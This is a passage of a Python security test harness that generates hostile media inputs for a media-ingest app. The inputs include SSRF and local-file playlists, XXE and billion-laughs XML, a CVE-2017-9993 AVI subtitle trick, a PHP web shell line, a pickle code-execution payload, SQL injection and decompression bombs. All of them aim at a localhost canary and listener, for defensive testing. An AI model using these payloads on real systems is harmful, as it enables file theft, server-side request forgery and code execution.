"""Files and names that mean harm, made by code: what the suite, and `python -m bench.hostile`, throw at Studio.

A case says how it must end: `refused` (a sentence for the operator), `taken` (it is media, and what is odd about it does no
harm), or `either` (what is left of a cut or bent file may be a recording or not). Whatever reaches out does so for
`Bait.secret`, a file whose bytes must never be seen again, and `Bait.port`, where somebody listens who must not be called.
"""

import contextlib
import gzip
import io
import random
import re
import resource
import secrets
import shutil
import socket
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

from media_app.core.files.faults import NotUsable
from media_app.making.inspect import inspect
from media_app.making.workspace import Workspace
from media_app.process import launch
from tests.media import cached, run_ffmpeg
from tests.support.derived import derive

REFUSED, TAKEN, EITHER = "refused", "taken", "either"


@dataclass(frozen=True, slots=True)
class Bait:
    """What hostile files reach for: `secret`, a file outside their folder; `near`, one next to them; a port of 127.0.0.1."""

    secret: Path
    near: str
    port: int


@dataclass(frozen=True, slots=True)
class Case:
    name: str
    group: str
    data: bytes
    ends: str = REFUSED
    filename: str = "clip.mp4"


@dataclass
class Ended:
    """How a case ended: what was said of it, the seconds it took, and every byte that it left behind; `made` without the logs,
    in which the tools quote a file's own tags."""

    case: Case
    refusal: Exception | None = None
    seconds: float = 0.0
    left: bytes = b""
    made: bytes = b""

    @property
    def outcome(self) -> str:
        return TAKEN if self.refusal is None else REFUSED


@dataclass
class Grounds:
    """Where cases are thrown at Studio: the bait is laid, and somebody listens for calls.

    Programs keep the network here, for it is the whitelists that must hold.
    """

    folder: Path
    canary: bytes = field(default_factory=lambda: f"CANARY-{secrets.token_hex(16)}\n".encode() * 8)
    calls: list[bytes] = field(default_factory=list)
    bait: Bait = field(init=False)

    @contextlib.contextmanager
    def open(self) -> Iterator[None]:
        secret = self.folder / "secret.txt"
        secret.write_bytes(self.canary)
        usual, launch.REACH = launch.REACH, "online"
        try:
            with socket.create_server(("127.0.0.1", 0)) as listener:
                self.bait = Bait(secret, "near.txt", listener.getsockname()[1])
                threading.Thread(target=self._listen, args=(listener,), daemon=True).start()
                yield
        finally:
            launch.REACH = usual

    def throw(self, case: Case) -> Ended:
        """Look at the file and make what an ingest makes of it."""
        folder = self.folder / secrets.token_hex(4)
        (folder / "out").mkdir(parents=True)
        path = folder / case.filename
        path.write_bytes(case.data)
        (folder / self.bait.near).write_bytes(self.canary)
        ended, began = Ended(case), time.monotonic()
        try:
            found = inspect(path, Workspace(folder, logs=folder))
            derive(path, found, Workspace(folder / "out", logs=folder))
        except Exception as error:
            ended.refusal = error
        ended.seconds = time.monotonic() - began
        for given in (path, folder / self.bait.near):
            given.unlink()
        files = [path for path in folder.rglob("*") if path.is_file()]
        ended.left = b"".join(path.read_bytes() for path in files)
        ended.made = b"".join(path.read_bytes() for path in files if path.suffix != ".log")
        shutil.rmtree(folder)
        return ended

    def faults(self, ended: Ended) -> list[str]:
        """What must not be, in words; nothing when all is well."""
        found = []
        if ended.case.ends not in (ended.outcome, EITHER):
            found.append(f"was {ended.outcome}, not {ended.case.ends}: {ended.refusal}")
        if ended.refusal is not None and not isinstance(ended.refusal, NotUsable):
            found.append(f"ended without a sentence of ours: {ended.refusal!r}")
        if ended.refusal is not None and (
            str(self.folder) in str(ended.refusal) or not str(ended.refusal).endswith(".")
        ):
            found.append(f"said {ended.refusal}")
        told = ended.left + str(ended.refusal).encode(errors="replace")
        if b"CANARY" in told or b"root:x:0:0" in told:
            found.append("read a file that is not its own")
        return found

    def _listen(self, listener: socket.socket) -> None:
        while True:
            try:
                caller, _ = listener.accept()
            except OSError:
                return
            with caller:
                self.calls.append(caller.recv(200))


@dataclass(frozen=True, slots=True)
class Thrown:
    """How all cases ended: by name what is wrong and what was made, who was called, bytes of the largest program."""

    faults: dict[str, list[str]]
    made: dict[str, bytes]
    calls: list[bytes]
    peak_bytes: int


def throw_all(folder: Path, at_once: int = 3) -> Thrown:
    """All cases, thrown. `peak_bytes` counts every program that this process ever started: have it start no others."""
    grounds = Grounds(folder)
    with grounds.open(), ThreadPoolExecutor(at_once) as pool:
        ended = {one.case.name: one for one in pool.map(grounds.throw, cases(grounds.bait))}
    return Thrown(
        {name: grounds.faults(one) for name, one in ended.items()},
        {name: one.made for name, one in ended.items()},
        grounds.calls,
        resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024,
    )


# --- honest files to bend ---


def _made(name: str, *args: str) -> bytes:
    def make(path: Path) -> None:
        picture = ["-f", "lavfi", "-i", "testsrc2=s=64x48:r=25:d=1"]
        sound = ["-f", "lavfi", "-i", "sine=r=48000:d=1"]
        run_ffmpeg(*picture, *sound, *args, path)

    return cached(name, ("hostile", args), make).read_bytes()


_H264 = ("-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-threads", "1")


def honest() -> dict[str, bytes]:
    """One second of picture and sound in each container, by file name."""
    return {
        "clip.mp4": _made("plain.mp4", *_H264, "-c:a", "aac"),
        "fragments.mp4": _made(
            "fragments.mp4", *_H264, "-c:a", "aac", "-movflags", "frag_keyframe+empty_moov", "-g", "5"
        ),
        "clip.mkv": _made("plain.mkv", *_H264, "-c:a", "libopus"),
        "clip.avi": _made("plain.avi", "-c:v", "mjpeg", "-c:a", "pcm_s16le"),
        "clip.ts": _made("plain.ts", "-c:v", "mpeg2video", "-c:a", "mp2"),
        "clip.flv": _made("plain.flv", *_H264, "-c:a", "aac"),
        "clip.wav": _made("plain.wav", "-vn", "-c:a", "pcm_s16le", "-map", "1:a"),
        "clip.flac": _made("plain.flac", "-vn", "-map", "1:a"),
        "clip.ogg": _made("plain.ogg", "-vn", "-map", "1:a", "-c:a", "libvorbis"),
        "clip.mp3": _made("plain.mp3", "-vn", "-map", "1:a"),
        "clip.aiff": _made("plain.aiff", "-vn", "-map", "1:a"),
        "clip.caf": _made("plain.caf", "-vn", "-map", "1:a"),
        "clip.w64": _made("plain.w64", "-vn", "-map", "1:a"),
        "clip.mxf": _made("plain.mxf", "-c:v", "mpeg2video", "-c:a", "pcm_s16le", "-ar", "48000"),
        "clip.wmv": _made("plain.wmv", "-c:v", "wmv2", "-c:a", "wmav2"),
    }


# --- atoms, chunks and elements ---


def box(name: bytes, *inside: bytes) -> bytes:
    body = b"".join(inside)
    return struct.pack(">I", len(body) + 8) + name + body


def ebml(ident: int, body: bytes, size: int | None = None) -> bytes:
    """An element of Matroska; `size` lies about its length."""
    length = len(body) if size is None else size
    name = ident.to_bytes((ident.bit_length() + 7) // 8, "big")
    return name + (0x01_00_00_00_00_00_00_00 | length).to_bytes(8, "big") + body


def wav(
    *, rate=48000, channels=1, bits=16, tag=1, align=None, data=b"\0" * 9600, data_size=None, riff_size=None, more=b""
) -> bytes:
    align = channels * bits // 8 % 65536 if align is None else align
    form = struct.pack("<HHIIHH", tag, channels % 65536, rate % 2**32, rate * align % 2**32, align, bits)
    chunks = b"WAVEfmt " + struct.pack("<I", 16) + form + more
    chunks += b"data" + struct.pack("<I", len(data) if data_size is None else data_size) + data
    return b"RIFF" + struct.pack("<I", len(chunks) if riff_size is None else riff_size) + chunks


def _patched(data: bytes, box_name: bytes, at: int, new: bytes, *, which: int = 0) -> bytes:
    """`new` over the bytes that lie `at` after the name of the `which`-th box of that name."""
    places = [found.start() for found in re.finditer(re.escape(box_name), data)]
    start = places[which] + 4 + at
    return data[:start] + new + data[start + len(new) :]


# --- what reaches out ---


def _targets(bait: Bait) -> dict[str, str]:
    http = f"127.0.0.1:{bait.port}/x.ts"
    return {
        "file": f"file://{bait.secret}",
        "path": str(bait.secret),
        "near": bait.near,
        "up": f"../../../../../../../../{bait.secret}",
        "http": f"http://{http}",
        "https": f"https://{http}",
        "tcp": f"tcp://127.0.0.1:{bait.port}",
        "concat": f"concat:{bait.secret}|http://{http}",
        "subfile": f"subfile,,start,0,end,64,,:{bait.secret}",
        "crypto": f"crypto+file:{bait.secret}",
        "async": f"async:file:{bait.secret}",
        "cache": f"cache:http://{http}",
        "data": "data:text/plain;base64,aGFybQ==",
        "pipe": "pipe:0",
        "ftp": f"ftp://127.0.0.1:{bait.port}/x",
        "gopher": f"gopher://127.0.0.1:{bait.port}/_x",
        "rtmp": f"rtmp://127.0.0.1:{bait.port}/live/x",
        "udp": f"udp://127.0.0.1:{bait.port}",
        "unix": "unix:/var/run/docker.sock",
        "passwd": "file:///etc/passwd",
    }


def playlists(bait: Bait) -> Iterator[Case]:
    for name, target in _targets(bait).items():
        text = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{target}\n#EXT-X-ENDLIST\n"
        yield Case(f"hls-{name}", "playlist", text.encode())
    inner = f"http://127.0.0.1:{bait.port}/inner.m3u8"
    forms = {
        "master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{inner}\n",
        "master-file": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile://{bait.secret}\n",
        "key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{inner}"\n#EXTINF:1,\n{bait.near}\n#EXT-X-ENDLIST\n',
        "map": f'#EXTM3U\n#EXT-X-MAP:URI="file://{bait.secret}"\n#EXTINF:1,\n{bait.near}\n#EXT-X-ENDLIST\n',
        "media": f'#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{inner}"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{inner}\n',
        "byterange": f"#EXTM3U\n#EXTINF:1,\n#EXT-X-BYTERANGE:64@0\nfile://{bait.secret}\n#EXT-X-ENDLIST\n",
        "endless": "#EXTM3U\n" + f"#EXTINF:1,\n{inner}\n" * 5000,
        "bom": f"\ufeff#EXTM3U\n#EXTINF:1,\nfile://{bait.secret}\n#EXT-X-ENDLIST\n",
        "blank-lines": f"\n\n \t\n#EXTM3U\n#EXTINF:1,\nfile://{bait.secret}\n#EXT-X-ENDLIST\n",
        "behind-junk": f"x#EXTM3U\n#EXTINF:1,\nfile://{bait.secret}\n#EXT-X-ENDLIST\n",
    }
    for name, text in forms.items():
        yield Case(f"hls-{name}", "playlist", text.encode())
    lists = {
        "relative": f"ffconcat version 1.0\nfile '{bait.near}'\n",
        "absolute": f"ffconcat version 1.0\nfile '{bait.secret}'\n",
        "up": "ffconcat version 1.0\nfile '../../../etc/passwd'\n",
        "http": f"ffconcat version 1.0\nfile 'http://127.0.0.1:{bait.port}/x.mp4'\n",
        "itself": "ffconcat version 1.0\nfile 'clip.mp4'\nfile 'clip.mp4'\n",
        "options": f"ffconcat version 1.0\nfile '{bait.near}'\noption safe 0\noption protocol_whitelist file,http,tcp\n",
        "blank": f"\n\n ffconcat version 1.0\nfile '{bait.near}'\n",
    }
    for name, text in lists.items():
        yield Case(f"concat-{name}", "playlist", text.encode())
    dash = '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"><Period>{}</Period></MPD>'
    part = '<AdaptationSet><Representation id="1" mimeType="video/mp4" bandwidth="1"><BaseURL>{}</BaseURL><SegmentList><SegmentURL media="x.mp4"/></SegmentList></Representation></AdaptationSet>'
    for name in ("http", "file", "near", "concat"):
        yield Case(f"dash-{name}", "playlist", dash.format(part.format(_targets(bait)[name])).encode())
    entity = f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{bait.secret}">]>'
    yield Case("dash-entity", "playlist", (entity + dash.format("&x;")).encode())
    bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    yield Case("dash-billion-laughs", "playlist", f'<!DOCTYPE MPD [<!ENTITY e0 "x">{bomb}]><MPD>&e11;</MPD>'.encode())
    include = (
        f'<MPD xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{bait.secret}" parse="text"/></MPD>'
    )
    yield Case("dash-xinclude", "playlist", include.encode())


def texts(bait: Bait) -> Iterator[Case]:
    http = f"http://127.0.0.1:{bait.port}/x"
    written = {
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {bait.port} RTP/AVP 96\na=rtpmap:96 H264/90000\n",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{http}"/><script>alert(1)</script></svg>',
        "html": f"<!doctype html><script src={http}></script>",
        "xspf": f'<?xml version="1.0"?><playlist><trackList><track><location>{http}</location></track></trackList></playlist>',
        "asx": f'<asx version="3"><entry><ref href="{http}"/></entry></asx>',
        "imf": f'<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>{bait.secret}</Path></AssetMap>',
        "smil": f'<smil><body><video src="{http}"/></body></smil>',
        "rtsptext": f"RTSPtext\n{http}\n",
        "realmedia-reference": f"[Reference]\nRef1={http}\n",
        "pls": f"[playlist]\nFile1={http}\nNumberOfEntries=1\n",
        "cue": f'FILE "{bait.secret}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        "mplayer-edl": "mplayer EDL file, version 2\n< clip.mp4\n0 1 clip.mp4\n",
        "avisynth": f'AVISource("{bait.secret}")\n',
        "vapoursynth": "import os\nos.system('touch /tmp/harm')\n",
        "ffmetadata": ";FFMETADATA1\ntitle=x\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=99999999\n",
        "tty": "\x1b[2J\x1b[31mnothing but text, which a decoder of text screens would draw\n" * 50,
        "srt": "1\n00:00:00,000 --> 00:00:09,000\nhello\n",
        "vtt": "WEBVTT\n\n00:00.000 --> 99:59:59.999\nhello\n",
        "ass": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: x.ttf\n" + "M" * 200 + "\n[Events]\nDialogue: 0,0:00:00.00,9:59:59.99,,,,,,,{\\p1}x\n",
        "microdvd": "{0}{999999999}hello\n",
        "sami": "<SAMI><BODY><SYNC Start=0><P>hello</BODY></SAMI>",
        "mpl2": "[0][999999]hello\n",
        "lrc": "[00:00.00]hello\n",
        "php": "<?php system($_GET['x']); ?>",
        "shell": "#!/bin/sh\ntouch /tmp/harm\n",
        "json": '{"streams": [{"codec_type": "video"}]}',
        "sql": "'; DROP TABLE media_app_mediaasset; --\n",
        "nuls": "\0" * 4096,
        "xface": "ffm 1\n" * 10,
    }  # fmt: skip
    for name, text in written.items():
        yield Case(f"text-{name}", "text", text.encode())


def others(bait: Bait) -> Iterator[Case]:
    """What is something else altogether, and what says that it is two things."""
    film = honest()["clip.mp4"]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", b"\0" * (20 << 20))
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 60000, 60000, 8, 6, 0, 0, 0)
    made = {
        "empty": b"", "one-byte": b"\0", "zip-bomb": packed.getvalue(), "gzip-bomb": gzip.compress(b"\0" * (20 << 20)),
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(http://127.0.0.1)>>>>endobj\n" * 500,
        "elf": b"\x7fELF" + bytes(range(256)) * 16, "exe": b"MZ" + bytes(range(256)) * 16, "png-bomb": png,
        "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03" + b"\0" * 64,
        "gif": b"GIF89a\xff\xff\xff\xff\0\0\0" + b"\0" * 64, "webp": b"RIFF\x10\0\0\0WEBPVP8X" + b"\xff" * 32,
        "heic": box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", b"\0" * 64), "tiff": b"II*\0" + b"\xff" * 64,
        "bmp": b"BM" + struct.pack("<I", 64) + b"\xff" * 58, "psd": b"8BPS\0\1" + b"\xff" * 64, "jxl": b"\xff\x0a" + b"\xff" * 64,
        "rar": b"Rar!\x1a\x07\x00" + b"\xff" * 64, "7z": b"7z\xbc\xaf\x27\x1c" + b"\xff" * 64, "tar": b"clip.mp4".ljust(257, b"\0") + b"ustar\0" + b"\0" * 512,
        "midi": b"MThd\0\0\0\6\0\1\0\1\0\1MTrk" + b"\xff" * 64, "swf": b"CWS\x09" + struct.pack("<I", 2**31) + zlib.compress(b"\0" * (1 << 20)),
        "pickle": b"\x80\x04cposix\nsystem\n(S'touch /tmp/harm'\ntR.", "noise": random.Random(1).randbytes(200_000),
        "sqlite": b"SQLite format 3\0" + b"\0" * 1000, "wasm": b"\0asm\1\0\0\0" + b"\0" * 64, "java": b"\xca\xfe\xba\xbe" + b"\0" * 64,
        "ico": b"\0\0\1\0\1\0\0\0" + b"\xff" * 64, "exr": b"\x76\x2f\x31\x01" + b"\xff" * 64, "dpx": b"SDPX" + b"\xff" * 2048,
    }  # fmt: skip
    for name, data in made.items():
        yield Case(f"other-{name}", "other", data)
    both = {
        "html-before": (b"<html><script>alert(1)</script></html>" + film, REFUSED),
        "pdf-before": (b"%PDF-1.4\n%%EOF\n" + film, REFUSED),
        "zip-behind": (film + packed.getvalue(), REFUSED),
        "html-inside": (box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41") + box(b"free", b"<script>alert(1)</script>") + film, REFUSED),
        "php-behind": (film + box(b"free", b"<?php system($_GET[0]); ?>"), TAKEN),
        "hls-behind": (film + f"\n#EXTM3U\n#EXTINF:1,\nfile://{bait.secret}\n".encode(), EITHER),
        "jpeg-before": (b"\xff\xd8\xff\xe0" + film, REFUSED),
        "film-twice": (film + film, EITHER),
        "wav-film": (wav(more=b"junk" + struct.pack("<I", len(film)) + film), REFUSED),
        "mp3-tag-with-zip": (b"ID3\3\0\0" + bytes([0, 0, len(packed.getvalue()) >> 7 & 127, len(packed.getvalue()) & 127]) + packed.getvalue(), EITHER),
    }  # fmt: skip
    for name, (data, ends) in both.items():
        yield Case(f"polyglot-{name}", "polyglot", data, ends)


def disguised_lists(bait: Bait) -> Iterator[Case]:
    """Subtitles inside an AVI that a reader takes for a playlist of their own (CVE-2017-9993), and kin."""
    for name in ("http", "file", "concat"):
        inner = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{_targets(bait)[name]}\n#EXT-X-ENDLIST\n".encode()
        gab2 = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"x\0" + b"\4\0" + struct.pack("<I", len(inner)) + inner
        header = (
            b"avih" + struct.pack("<I", 56) + struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 64, 48, 0, 0, 0, 0)
        )
        stream = b"strh" + struct.pack("<I", 56) + b"txts" + b"\0" * 52 + b"strf" + struct.pack("<I", 0)
        strl = b"LIST" + struct.pack("<I", len(stream) + 4) + b"strl" + stream
        hdrl = b"LIST" + struct.pack("<I", len(header + strl) + 4) + b"hdrl" + header + strl
        chunk = b"00tx" + struct.pack("<I", len(gab2)) + gab2 + b"\0" * (len(gab2) % 2)
        movi = b"LIST" + struct.pack("<I", len(chunk) + 4) + b"movi" + chunk
        body = b"AVI " + hdrl + movi
        yield Case(f"gab2-{name}", "playlist", b"RIFF" + struct.pack("<I", len(body)) + body, filename="clip.avi")


# --- what lies about itself ---


def atoms(bait: Bait) -> Iterator[Case]:
    film = honest()["clip.mp4"]
    big, most = b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff"
    ftyp = box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41")

    def case(name: str, data: bytes, ends: str = REFUSED) -> Case:
        return Case(f"mp4-{name}", "atom", data, ends)

    # After an atom's name: 1 byte version, 3 of flags, then its fields.
    yield case("movie-scale-0", _patched(film, b"mvhd", 12, b"\0\0\0\0"), EITHER)
    yield case("movie-forever", _patched(film, b"mvhd", 16, big), EITHER)
    yield case("track-scale-0", _patched(film, b"mdhd", 12, b"\0\0\0\0"), EITHER)
    yield case("track-scale-most", _patched(film, b"mdhd", 12, most), EITHER)
    yield case("track-forever", _patched(film, b"mdhd", 16, big), EITHER)
    yield case("a-million-frames-a-second", _patched(film, b"mdhd", 12, struct.pack(">I", 512_000_000)), REFUSED)
    yield case("one-frame-a-day", _patched(film, b"stts", 12, struct.pack(">I", 512 * 25 * 7200)), EITHER)
    yield case("times-count", _patched(film, b"stts", 4, big), EITHER)
    yield case("times-repeat", _patched(film, b"stts", 8, big), EITHER)
    yield case("times-repeat-many", _patched(film, b"stts", 8, most), EITHER)
    yield case("times-step", _patched(film, b"stts", 12, most), EITHER)
    yield case("times-step-negative", _patched(film, b"stts", 12, b"\x80\0\0\0"), EITHER)
    yield case("chunks-count", _patched(film, b"stsc", 4, big), EITHER)
    yield case("chunks-first", _patched(film, b"stsc", 8, b"\0\0\0\0"), EITHER)
    yield case("chunk-samples", _patched(film, b"stsc", 12, most), EITHER)
    yield case("sizes-count", _patched(film, b"stsz", 8, big), EITHER)
    yield case("sizes-all-one", _patched(film, b"stsz", 4, b"\0\0\0\1" + most), EITHER)
    yield case("sizes-all-most", _patched(film, b"stsz", 4, most + most), EITHER)
    yield case("size-first-most", _patched(film, b"stsz", 12, most), EITHER)
    yield case("places-count", _patched(film, b"stco", 4, big), EITHER)
    yield case("places-beyond", _patched(film, b"stco", 8, most), EITHER)
    yield case("edit-count", _patched(film, b"elst", 4, big), EITHER)
    yield case("edit-before", _patched(film, b"elst", 12, b"\x80\0\0\0"), EITHER)
    yield case("edit-long", _patched(film, b"elst", 8, most), EITHER)
    yield case("edit-speed", _patched(film, b"elst", 16, most), EITHER)
    yield case("picture-65535", _patched(film, b"avc1", 24, b"\xff\xff\xff\xff"), EITHER)
    yield case("picture-0", _patched(film, b"avc1", 24, b"\0\0\0\0"), EITHER)
    yield case("matrix-spin", _patched(film, b"tkhd", 40, b"\x12\x34\x56\x78" * 9), EITHER)
    yield case("track-size-most", _patched(film, b"tkhd", 76, most + most), EITHER)
    yield case("sound-65535-channels", _patched(film, b"mp4a", 16, b"\xff\xff"), EITHER)
    yield case("sound-rate-most", _patched(film, b"mp4a", 24, big), EITHER)
    yield case("codec-config-junk", _patched(film, b"avcC", 0, b"\xff" * 16), EITHER)
    yield case("codec-unknown", film.replace(b"avc1", b"zzzz").replace(b"mp4a", b"yyyy"), REFUSED)
    yield case("encrypted", film.replace(b"avc1", b"encv").replace(b"mp4a", b"enca"), EITHER)
    yield case("no-moov", film.replace(b"moov", b"zzzz"), REFUSED)
    yield case("moov-alone", ftyp + film[film.index(b"moov") - 4 :], REFUSED)
    yield case("no-mdat", film.replace(b"mdat", b"free"), EITHER)
    yield case("ftyp-alone", ftyp, REFUSED)
    yield case("box-size-7", ftyp + struct.pack(">I", 7) + b"moov" + b"\0" * 64, REFUSED)
    yield case("box-size-most", ftyp + most + b"moov" + b"\0" * 64, REFUSED)
    yield case("box-size-2-63", ftyp + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1) + b"\0" * 64, REFUSED)
    yield case("box-size-2-64", ftyp + struct.pack(">I4sQ", 1, b"mdat", 2**64 - 1) + b"\0" * 64, REFUSED)
    nested = b""
    for _ in range(2000):
        nested = box(b"moov", nested)
    yield case("moov-in-moov", ftyp + nested, REFUSED)
    nested = b""
    for _ in range(2000):
        nested = box(b"udta", box(b"meta", nested))
    yield case("meta-in-meta", ftyp + box(b"moov", nested), REFUSED)
    yield case("moov-thrice", ftyp + film[film.index(b"moov") - 4 :] * 3, REFUSED)
    yield case("many-boxes", ftyp + box(b"free") * 200_000 + film[len(ftyp) :], EITHER)
    zipped = zlib.compress(b"\0" * (64 << 20), 9)
    cmov = box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", struct.pack(">I", 2**31 - 1), zipped))
    yield case("compressed-moov-bomb", ftyp + box(b"moov", cmov), REFUSED)
    empty_track = box(
        b"trak",
        box(b"tkhd", b"\0" * 84),
        box(b"mdia", box(b"mdhd", b"\0" * 24), box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 13)),
    )
    yield case("3000-tracks", ftyp + box(b"moov", box(b"mvhd", b"\0" * 100), empty_track * 3000), REFUSED)
    for kind, url in (("file", str(bait.secret)), ("http", f"http://127.0.0.1:{bait.port}/x.mov")):
        dref = box(b"dref", b"\0\0\0\0\0\0\0\1", box(b"url ", b"\0\0\0\0" + url.encode() + b"\0"))
        yield case(f"data-elsewhere-{kind}", _with_dref(film, dref), EITHER)
    alias = (
        b"\0\0\0\0"
        + b"\0" * 150
        + struct.pack(">HH", 2, len(str(bait.secret)))
        + str(bait.secret).encode()
        + b"\xff\xff\0\0"
    )
    yield case("data-alias", _with_dref(film, box(b"dref", b"\0\0\0\0\0\0\0\1", box(b"alis", alias))), EITHER)
    moof = box(
        b"moof",
        box(b"mfhd", b"\0" * 8),
        box(b"traf", box(b"tfhd", b"\0" * 8), box(b"trun", b"\0\0\x0f\x01" + big + b"\0" * 64)),
    )
    yield case("fragment-of-2-32", honest()["fragments.mp4"] + moof, EITHER)
    yield case("fragments-alone", ftyp + moof * 100, REFUSED)
    yield case("sidx-loop", ftyp + box(b"sidx", b"\0" * 20 + b"\xff\xff" + b"\xff" * 600) + moof, REFUSED)


def _with_dref(film: bytes, dref: bytes) -> bytes:
    """The film with its first data reference replaced, sizes of the boxes above mended."""
    at = film.index(b"dref") - 4
    old = struct.unpack(">I", film[at : at + 4])[0]
    grown = len(dref) - old
    bent = bytearray(film[:at] + dref + film[at + old :])
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        place = bytes(bent).index(name) - 4
        size = struct.unpack(">I", bent[place : place + 4])[0]
        bent[place : place + 4] = struct.pack(">I", size + grown)
    return bytes(bent)


def chunks(bait: Bait) -> Iterator[Case]:
    quiet = b"\0" * 9600

    def sound(name: str, ends: str, data: bytes, filename: str = "clip.wav") -> Case:
        return Case(f"sound-{name}", "header", data, ends, filename)

    yield sound("rate-1", REFUSED, wav(rate=1))
    yield sound("rate-0", REFUSED, wav(rate=0))
    yield sound("rate-4e9", REFUSED, wav(rate=4_000_000_000))
    yield sound("channels-0", REFUSED, wav(channels=0))
    yield sound("channels-65535", REFUSED, wav(channels=65535))
    yield sound("channels-255", REFUSED, wav(channels=255))
    yield sound("bits-0", EITHER, wav(bits=0))
    yield sound("bits-7", EITHER, wav(bits=7))
    yield sound("bits-4096", EITHER, wav(bits=4096))
    yield sound("align-0", EITHER, wav(align=0))
    yield sound("align-65535", EITHER, wav(align=65535))
    yield sound("tag-junk", REFUSED, wav(tag=0x7777))
    yield sound("data-size-most", EITHER, wav(data_size=2**32 - 2))
    yield sound("riff-size-most", EITHER, wav(riff_size=2**32 - 1))
    yield sound("riff-size-0", TAKEN, wav(riff_size=0))
    yield sound("nan", TAKEN, wav(tag=3, bits=32, data=struct.pack("<f", float("nan")) * 24000))
    yield sound("infinite", TAKEN, wav(tag=3, bits=32, data=struct.pack("<ff", float("inf"), -float("inf")) * 12000))
    yield sound("10000-lists", TAKEN, wav(more=(b"LIST" + struct.pack("<I", 4) + b"INFO") * 10_000))
    yield sound(
        "title-4-MB",
        EITHER,
        wav(
            more=b"LIST" + struct.pack("<I", 4_000_012) + b"INFOINAM" + struct.pack("<I", 4_000_000) + b"A" * 4_000_000
        ),
    )
    yield sound("list-size-most", REFUSED, wav(more=b"LIST" + struct.pack("<I", 2**32 - 1)))
    yield sound(
        "fmt-size-most", REFUSED, b"RIFF" + struct.pack("<I", 64) + b"WAVEfmt " + struct.pack("<I", 2**31 - 1) + quiet
    )
    ds64 = b"ds64" + struct.pack("<IQQQI", 28, 2**63 - 1, 2**63 - 1, 2**63 - 1, 0)
    yield sound("rf64-2-63", EITHER, b"RF64\xff\xff\xff\xffWAVE" + ds64 + wav()[12:])
    yield sound("bext-bomb", TAKEN, wav(more=b"bext" + struct.pack("<I", 602) + b"\xff" * 602))
    flac = honest()["clip.flac"]
    info = flac.index(b"fLaC") + 8
    bent = bytearray(flac)
    bent[info + 10 : info + 18] = b"\xff" * 8
    yield sound("flac-info-most", EITHER, bytes(bent), "clip.flac")
    yield sound(
        "flac-picture-bomb",
        EITHER,
        b"fLaC" + flac[4:42] + b"\x06\xff\xff\xff" + b"\xff" * 1000 + flac[42:],
        "clip.flac",
    )
    yield sound("id3-256-MB", EITHER, b"ID3\4\0\0\x7f\x7f\x7f\x7f" + honest()["clip.mp3"], "clip.mp3")
    yield sound("id3-in-id3", EITHER, b"ID3\4\0\0\0\0\0\x0a" * 5000 + honest()["clip.mp3"], "clip.mp3")
    mp3 = honest()["clip.mp3"]
    at = mp3.find(b"Xing") if b"Xing" in mp3 else mp3.find(b"Info")
    yield sound("mp3-frames-2-32", REFUSED, mp3[: at + 8] + b"\xff\xff\xff\xff" + mp3[at + 12 :], "clip.mp3")
    ogg = honest()["clip.ogg"]
    pages = [found.start() for found in re.finditer(b"OggS", ogg)]
    yield sound(
        "ogg-position-2-63", EITHER, ogg[: pages[-1] + 6] + b"\xff" * 7 + b"\x7f" + ogg[pages[-1] + 14 :], "clip.ogg"
    )
    storm = b"".join(
        b"OggS\0\2" + b"\0" * 8 + struct.pack("<II", n, 0) + b"\0\0\0\0\1\x1e\1vorbis" + b"\0" * 23 for n in range(2000)
    )
    yield sound("ogg-2000-streams", REFUSED, storm, "clip.ogg")
    aiff = honest()["clip.aiff"]
    yield sound("aiff-rate-infinite", EITHER, _patched(aiff, b"COMM", 12, b"\x7f\xff\x80\0\0\0\0\0\0\0"), "clip.aiff")
    yield sound("aiff-channels", REFUSED, _patched(aiff, b"COMM", 4, b"\x7f\xff"), "clip.aiff")
    yield sound(
        "caf-rate-nan", REFUSED, _patched(honest()["clip.caf"], b"desc", 8, b"\x7f\xf8" + b"\0" * 6), "clip.caf"
    )
    w64 = honest()["clip.w64"]
